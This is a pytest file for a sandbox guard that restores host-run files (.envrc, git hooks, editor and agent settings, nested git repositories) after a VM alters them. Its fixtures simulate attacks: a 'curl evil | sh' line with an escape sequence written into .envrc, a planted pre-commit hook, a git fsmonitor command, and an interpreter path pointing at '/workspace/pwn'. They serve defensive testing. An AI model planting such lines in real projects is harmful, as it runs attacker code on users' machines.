"""The guard while the VM runs: what the VM changes of what the host runs is out of the host's
way within one round of the idle reaper, and told at the next review."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from opencode_sandbox.app import App
from opencode_sandbox.cli.render import render_status
from opencode_sandbox.core.guard import COPY_LIMIT, REVIEW_FOLDER
from opencode_sandbox.services.guard import review, status
from opencode_sandbox.services.guard_moves import Notes, catch_while_running
from tests.services.app_fakes import SLUG, messages
from tests.services.test_guard import git


@pytest.fixture
def checkout(tmp_path: Path) -> Path:
    root = tmp_path / "checkout"
    root.mkdir()
    git(root, "init", "-q", "-b", "main")
    (root / ".envrc").write_text("export A=1\n")
    (root / ".husky").mkdir()
    (root / ".husky" / "keep").write_text("")
    git(root, "add", ".")
    assert git(root, "commit", "-q", "-m", "init").returncode == 0
    return root


def catch(app: App, log: list[str]) -> Notes:
    return catch_while_running(app.state.project_dir(SLUG).parent, SLUG, log.append)


def test_a_guarded_file_the_vm_changes_is_put_back_within_one_round_and_told_at_the_review(
        app: App, checkout: Path) -> None:
    review(app, vm_may_write_after=True)  # the start
    (checkout / ".envrc").write_text("export A=1\ncurl evil | sh \x1b[2K\n")
    (checkout / ".husky" / "pre-commit").write_text("#!/bin/sh\nevil\n")
    (checkout / ".husky" / "pre-commit").chmod(0o755)
    log: list[str] = []

    notes = catch(app, log)

    assert (checkout / ".envrc").read_text() == "export A=1\n"
    assert not (checkout / ".husky" / "pre-commit").exists()
    assert [held.change.split(":")[0] for held in notes.held] == [".envrc", ".husky/pre-commit"]
    kept = checkout / notes.held[0].kept
    assert kept.is_relative_to(checkout / REVIEW_FOLDER) and "curl evil" in kept.read_text()
    hook = checkout / notes.held[1].kept
    assert hook.read_text() == "#!/bin/sh\nevil\n" and hook.stat().st_mode & 0o111 == 0
    assert any("put back as recorded: .envrc" in line for line in log)
    shown = render_status(status(app), "table")
    assert "files the VM changed while it ran, put back as they were" in shown and ".husky/pre-commit: added" in shown
    assert json.loads(render_status(status(app), "json"))["result"]["state"] == "changed"

    outcome = review(app, vm_may_write_after=True)  # the detach

    said = messages(app)
    assert "2 file(s) the host runs were changed while the VM ran and put back" in said
    assert "+curl evil | sh \\x1b[2K" in said, "the diff is shown, its escape sequence escaped"
    assert not outcome.by_vm, "nothing is left to revert"
    assert catch(app, []) == Notes(), "told once and nothing new"
    assert "files the VM changed" not in render_status(status(app), "table")


def test_a_removed_file_and_a_link_in_place_of_one_come_back(app: App, checkout: Path, tmp_path: Path) -> None:
    (tmp_path / "outside").write_text("the host's\n")
    review(app, vm_may_write_after=True)
    (checkout / ".envrc").unlink()
    (checkout / ".envrc").symlink_to(tmp_path / "outside")
    (checkout / ".husky" / "keep").unlink()

    notes = catch(app, [])

    assert not (checkout / ".envrc").is_symlink() and (checkout / ".envrc").read_text() == "export A=1\n"
    assert (checkout / ".husky" / "keep").exists()
    assert (tmp_path / "outside").read_text() == "the host's\n", "nothing written through the link"
    assert {held.change.split(":")[0] for held in notes.held} == {".envrc", ".husky/keep"}


def test_a_nested_repository_is_moved_aside_whole(app: App, checkout: Path) -> None:
    review(app, vm_may_write_after=True)
    nested = checkout / "sub"
    git(checkout, "init", "-q", str(nested))
    git(nested, "config", "core.fsmonitor", "touch ran; false")

    notes = catch(app, [])

    assert not (nested / ".git").exists() and notes.moved[0].startswith("sub/.git -> .opencode-sandbox/guard/")
    told = review(app, vm_may_write_after=True) and messages(app)
    assert ("git director(y/ies), or link(s) into what was set aside, that the VM made below the checkout were "
            "moved aside") in told


def test_the_guarded_names_count_in_every_folder_below_the_top(app: App, checkout: Path) -> None:
    web = checkout / "packages" / "web"
    (web / ".vscode").mkdir(parents=True)
    (web / ".vscode" / "settings.json").write_text('{"editor.tabSize": 2}\n')  # the user's, before the start
    review(app, vm_may_write_after=True)
    (web / ".vscode" / "settings.json").write_text('{"python.defaultInterpreterPath": "/workspace/pwn"}\n')
    (web / ".claude").mkdir()
    (web / ".claude" / "settings.json").write_text('{"hooks": {}}\n')
    (web / "opencode.json").write_text('{"mcp": {}}\n')
    (checkout / "a" / "b" / "c").mkdir(parents=True)
    (checkout / "a" / "b" / "c" / ".envrc").write_text("id\n")

    notes = catch(app, [])

    assert sorted(held.change.split(":")[0] for held in notes.held) == [
        "a/b/c/.envrc", "packages/web/.claude/settings.json", "packages/web/.vscode/settings.json",
        "packages/web/opencode.json"]
    assert (web / ".vscode" / "settings.json").read_text() == '{"editor.tabSize": 2}\n'
    assert not (web / ".claude" / "settings.json").exists() and not (web / "opencode.json").exists()
    assert not (checkout / "a" / "b" / "c" / ".envrc").exists()
    assert catch(app, []) == Notes(), "the versions kept for review are not guarded again"
    assert not review(app, vm_may_write_after=True).by_vm


def test_a_guarded_name_below_the_top_that_the_vm_removes_comes_back_at_the_review(app: App, checkout: Path) -> None:
    mine = checkout / "tools" / ".envrc"
    mine.parent.mkdir()
    mine.write_text("export MINE=1\n")
    review(app, vm_may_write_after=True)
    mine.unlink()

    outcome = review(app, vm_may_write_after=True, ask=lambda question: True)

    assert [(change.path, change.what) for change in outcome.by_vm] == [("tools/.envrc", "removed")]
    assert mine.read_text() == "export MINE=1\n"


def test_nothing_is_touched_while_no_vm_may_write(app: App, checkout: Path) -> None:
    review(app, vm_may_write_after=False)  # a stop: what follows is the user's
    (checkout / ".envrc").write_text("mine\n")

    assert catch(app, []) == Notes()
    assert (checkout / ".envrc").read_text() == "mine\n"


def test_a_file_whose_earlier_version_was_too_big_to_keep_is_left_to_the_review(app: App, checkout: Path) -> None:
    big = checkout / ".husky" / "big.bin"
    big.write_bytes(b"\0" * (COPY_LIMIT + 1))
    review(app, vm_may_write_after=True)
    big.write_bytes(b"\1")

    assert catch(app, []) == Notes()
    assert big.read_bytes() == b"\1"
    assert [change.path for change in review(app, vm_may_write_after=False).by_vm] == [".husky/big.bin"]
